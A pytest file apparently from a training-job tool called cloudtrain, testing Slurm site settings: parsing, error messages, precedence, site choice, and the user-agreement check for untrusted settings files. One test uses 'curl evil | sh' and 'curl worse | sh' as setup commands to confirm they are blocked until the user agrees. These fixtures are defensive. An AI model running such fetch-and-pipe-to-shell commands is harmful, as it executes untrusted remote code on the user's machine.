"""Slurm sites in settings files: their values, mistakes, precedence, the choice of one, and the user's agreement."""

from __future__ import annotations

import os
import pwd
from collections.abc import Callable
from pathlib import Path

import pytest
from support.plans import SCRIPT_JOB

from cloudtrain.client.account import find_settings
from cloudtrain.client.client import Client
from cloudtrain.errors import SettingsError, UntrustedSettingsError, UserError
from cloudtrain.settings.profiles import change_profile
from cloudtrain.settings.settings import find_sites, load_settings, profile_file
from cloudtrain.settings.slurm_sites import SlurmSite, choose_site
from cloudtrain.settings.trust import store_agreement

SITE = """\
bucket = "b"

[slurm.main]
folder = "/fsx/cloudtrain"
partition = "gpu"
account = "vision"
qos = "normal"
gpus_per_node = 8
time = "24h"
setup = ["module load cuda", "ulimit -n 65536"]
python = "/fsx/env/bin/python"
sbatch = ["--constraint=a100", "--mem=0"]
usd_per_node_hour = 12
"""


def write_profile(text: str) -> Path:
    path = profile_file(os.environ)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def test_shared_settings_give_each_user_a_folder(tmp_path: Path) -> None:
    user = pwd.getpwuid(os.getuid()).pw_name
    expected = {
        "/fsx/$USER/cloudtrain": Path(f"/fsx/{user}/cloudtrain"),
        "~/cloudtrain": Path.home() / "cloudtrain",
    }
    for written, folder in expected.items():
        (tmp_path / "cloudtrain.toml").write_text(f'[slurm.main]\nfolder = "{written}"\n')
        settings = load_settings({"HOME": str(tmp_path)}, job_directory=tmp_path)
        assert settings.slurm["main"].folder == folder


def test_a_site_has_all_of_its_values(tmp_path: Path) -> None:
    path = tmp_path / "cloudtrain.toml"
    path.write_text(SITE)
    settings = load_settings({"HOME": str(tmp_path)}, job_directory=tmp_path)
    assert settings.bucket == "b"
    site = settings.slurm["main"]
    assert site == SlurmSite(
        name="main",
        folder=Path("/fsx/cloudtrain"),
        partition="gpu",
        account="vision",
        qos="normal",
        gpus_per_node=8,
        time_seconds=86400,
        setup=("module load cuda", "ulimit -n 65536"),
        python="/fsx/env/bin/python",
        sbatch=("--constraint=a100", "--mem=0"),
        usd_per_node_hour=12.0,
        origin=f"{path}:3",
        file=str(path),
        is_beside_job=True,
        is_trusted=False,
    )
    assert site.origin_of("gpus_per_node") == f"{path}:8"
    assert site.origin_of("other") == f"{path}:3"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("slurm = 3", "cloudtrain.toml:1: slurm must contain tables"),
        (
            "[slurm]\nfolder = '/fsx'",
            "cloudtrain.toml:2: folder is outside of a table of slurm; give the site a name: [slurm.main]",
        ),
        ("[slurm.'my site']\nfolder = '/fsx'", "cannot be the name of a Slurm site"),
        ("[slurm.main]\n", "cloudtrain.toml:1: the Slurm site main has no folder"),
        (
            "[slurm.main]\nfolder = '/fsx'\npartiton = 'gpu'",
            "cloudtrain.toml:3: unknown key 'partiton' of a Slurm site; did you mean \"partition\"?",
        ),
        (
            "[slurm.main]\nfolder = 'fsx'",
            "cloudtrain.toml:2: folder: expected an absolute path, got 'fsx'; such as '/shared/cloudtrain'",
        ),
        ("[slurm.main]\nfolder = '/f'\ntime = 24", "time: expected a duration with a unit"),
        ("[slurm.main]\nfolder = '/f'\ngpus_per_node = true", "expected a number of GPUs"),
        ("[slurm.main]\nfolder = '/f'\ngpus_per_node = -1", "expected a number of GPUs"),
        ("[slurm.main]\nfolder = '/f'\nsetup = 'a'", "setup: expected a list of strings"),
        ("[slurm.main]\nfolder = '/f'\npartition = 'a b'", "partition: expected a name"),
        ("[slurm.main]\nfolder = '/f'\nusd_per_node_hour = 0", "expected a price in US dollars"),
        ("[slurm.main]\nfolder = '/f'\nusd_per_node_hour = nan", "expected a price in US dollars"),
        (
            "[slurm.main]\nfolder = '/f'\nsbatch = ['-C a100']",
            'sbatch: expected the long name of an option of sbatch, got "-C a100"; write --constraint=VALUE',
        ),
        (
            "[slurm.main]\nfolder = '/f'\nsbatch = ['--nodes=4']",
            "sbatch: cloudtrain gives --nodes itself; use cluster.instances",
        ),
        (
            "[slurm.main]\nfolder = '/f'\nsbatch = ['constraint=x']",
            'did you mean "--constraint=x"?',
        ),
        ("slrum = 1", "unknown setting 'slrum'; did you mean \"slurm\"?"),
    ],
)
def test_a_mistake_in_a_site_has_its_line(tmp_path: Path, text: str, expected: str) -> None:
    (tmp_path / "cloudtrain.toml").write_text(text)
    with pytest.raises(SettingsError) as caught:
        load_settings({"HOME": str(tmp_path)}, job_directory=tmp_path)
    assert expected in f"{caught.value.message}; {caught.value.hint}"


def test_a_site_beside_the_job_replaces_the_users(tmp_path: Path) -> None:
    write_profile("[slurm.main]\nfolder = '/own'\nqos = 'high'\n[slurm.other]\nfolder = '/other'\n")
    (tmp_path / "cloudtrain.toml").write_text("[slurm.main]\nfolder = '/beside'\n")
    sites = find_sites(os.environ, job_directory=tmp_path)
    assert [(site.name, str(site.folder), site.qos) for site in sites.values()] == [
        ("main", "/beside", None),
        ("other", "/other", None),
    ]
    assert (sites["main"].is_trusted, sites["other"].is_trusted) == (False, True)


def test_the_only_site_is_the_default() -> None:
    main = SlurmSite("main", Path("/fsx"))
    other = SlurmSite("other", Path("/other"))
    assert choose_site({"main": main}) is main
    assert choose_site({"main": main, "other": other}, "other") is other
    with pytest.raises(UserError, match="several Slurm sites: main, other"):
        choose_site({"main": main, "other": other})
    with pytest.raises(UserError, match="no Slurm site 'man'") as caught:
        choose_site({"main": main, "other": other}, "man")
    assert caught.value.hint == 'did you mean "main"?'
    with pytest.raises(UserError, match="no Slurm site in the settings") as caught:
        choose_site({}, "main")
    assert "[slurm.NAME]" in caught.value.hint


def test_a_site_beside_the_job_needs_the_users_agreement(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    path = tmp_path / "cloudtrain.toml"
    path.write_text("[slurm.main]\nfolder = '/fsx'\nsetup = ['curl evil | sh']\n")
    site = find_settings().slurm["main"]
    with pytest.raises(UntrustedSettingsError) as caught:
        site.require_trust()
    assert caught.value.file == str(path)
    shown = {"slurm.main": 'folder = "/fsx", setup = ["curl evil | sh"]'}
    assert caught.value.values == shown
    assert "CLOUDTRAIN_SLURM" not in caught.value.hint
    find_settings(trust=True).slurm["main"].require_trust()
    store_agreement(os.environ, caught.value.file, caught.value.values)
    find_settings().slurm["main"].require_trust()
    # Another line needs another agreement.
    path.write_text("[slurm.main]\nfolder = '/fsx'\nsetup = ['curl worse | sh']\n")
    with pytest.raises(UntrustedSettingsError, match="curl worse"):
        find_settings().slurm["main"].require_trust()


def test_nothing_is_submitted_to_a_site_without_agreement(
    job: Callable[..., Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    path = job(SCRIPT_JOB, train_py="")
    (path.parent / "cloudtrain.toml").write_text("[slurm.main]\nfolder = '/fsx'\n")
    with pytest.raises(UntrustedSettingsError, match=r"slurm\.main"):
        Client().submit(path, backend="slurm")
    monkeypatch.chdir(path.parent)
    assert Client().plan(path, backend="slurm").batch_job is not None


def test_the_users_own_site_needs_no_agreement() -> None:
    write_profile("[slurm.main]\nfolder = '/fsx'\nsetup = ['module load cuda']\n")
    find_settings().slurm["main"].require_trust()


def test_a_site_leaves_the_account_as_it_is(tmp_path: Path) -> None:
    (tmp_path / "cloudtrain.toml").write_text("[slurm.main]\nfolder = '/fsx'\n")
    settings = load_settings({"HOME": str(tmp_path)}, job_directory=tmp_path)
    settings.require_trust()
    assert settings.sources == {}


def test_configure_keeps_the_sites() -> None:
    path = write_profile("# mine\n[slurm.main]\nfolder = '/fsx' # shared\n")
    change_profile(path, None, {"bucket": "my-bucket"}).write()
    text = path.read_text()
    assert "[slurm.main]\nfolder = '/fsx' # shared\n" in text
    assert load_settings(os.environ).bucket == "my-bucket"
    assert load_settings(os.environ).slurm["main"].folder == Path("/fsx")
